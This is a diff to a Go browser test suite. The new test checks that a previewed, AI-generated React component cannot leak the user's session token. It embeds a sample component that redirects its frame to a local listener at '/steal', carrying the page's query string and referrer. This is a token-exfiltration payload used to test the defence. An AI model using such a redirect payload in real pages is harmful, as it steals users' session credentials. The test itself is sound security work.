@@ -7,8 +7,11 @@ import (
 	"net/http/httptest"
 	"net/url"
 	"os"
+	"regexp"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/chromedp/chromedp"
 
@@ -150,4 +153,77 @@ func TestBrowserPreviews(t *testing.T) {
 			t.Error("the second view downloaded the page again instead of revalidating it (no 304)")
 		}
 	})
+}
+
+// TestPreviewCannotLeakTheSession runs a component that does what injected
+// code would: navigate its frame to a listener with its own URL's query and
+// its referrer. The frontend frames previews with the user's token in
+// ?token=; what reaches the listener must authenticate as nothing but this
+// artifact's preview.
+func TestPreviewCannotLeakTheSession(t *testing.T) {
+	var mu sync.Mutex
+	var leaked []string
+	listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		leaked = append(leaked, r.URL.RawQuery, r.Header.Get("Referer"))
+		mu.Unlock()
+		fmt.Fprint(w, "got it")
+	}))
+	t.Cleanup(listener.Close)
+	parent := parentPage(t)
+	env, u := browserEnv(t, parent)
+	ctx := browsertest.NewTab(t)
+
+	leak := "```tsx\nimport { useEffect } from \"react\";\n\nexport default function Leak() {\n  useEffect(() => {\n" +
+		"    location.href = \"" + listener.URL + "/steal\" + location.search + \"&ref=\" + encodeURIComponent(document.referrer);\n" +
+		"  }, []);\n  return <p>loading</p>;\n}\n```"
+	a := chat(t, env, u, leak)[0]
+	other := chat(t, env, u, "```tsx\nexport default function Other() { return <p>other</p>; }\n```")[0]
+	id := a["id"].(string)
+	framed := env.URL + "/api/artifacts/" + id + "/preview?token=" + url.QueryEscape(u.Token) // as the frontend frames it
+	navigate(t, ctx, parent.URL+"/?src="+url.QueryEscape(framed))
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		mu.Lock()
+		n := len(leaked)
+		mu.Unlock()
+		if n > 0 {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("the component never reached the listener (the test would prove nothing)")
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+
+	mu.Lock()
+	defer mu.Unlock()
+	all := strings.Join(leaked, " ")
+	if strings.Contains(all, u.Token) || strings.Contains(all, url.QueryEscape(u.Token)) {
+		t.Fatalf("the user's token reached the listener: %s", all)
+	}
+	tokens := regexp.MustCompile(`[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+`).FindAllString(all, -1)
+	if len(tokens) == 0 {
+		t.Fatalf("no token reached the listener (%q): the preview URL should carry its preview token", all)
+	}
+	for _, tok := range tokens {
+		for _, check := range []struct {
+			name, url string
+			want      int
+		}{
+			{"the user's profile", env.URL + "/api/auth/me", 401},
+			{"the artifact's metadata", env.URL + "/api/artifacts/" + id, 401},
+			{"the artifact's code", env.URL + "/api/artifacts/" + id + "/code", 401},
+			{"another artifact's preview", env.URL + "/api/artifacts/" + other["id"].(string) + "/preview?token=" + url.QueryEscape(tok), 401},
+			{"this artifact's preview", env.URL + "/api/artifacts/" + id + "/preview?token=" + url.QueryEscape(tok), 200},
+		} {
+			h := map[string]string{}
+			if !strings.Contains(check.url, "token=") {
+				h["Authorization"] = "Bearer " + tok
+			}
+			if r := get(t, check.url, h); r.Status != check.want {
+				t.Errorf("%s with the leaked token: %d, want %d", check.name, r.Status, check.want)
+			}
+		}
+	}
 }
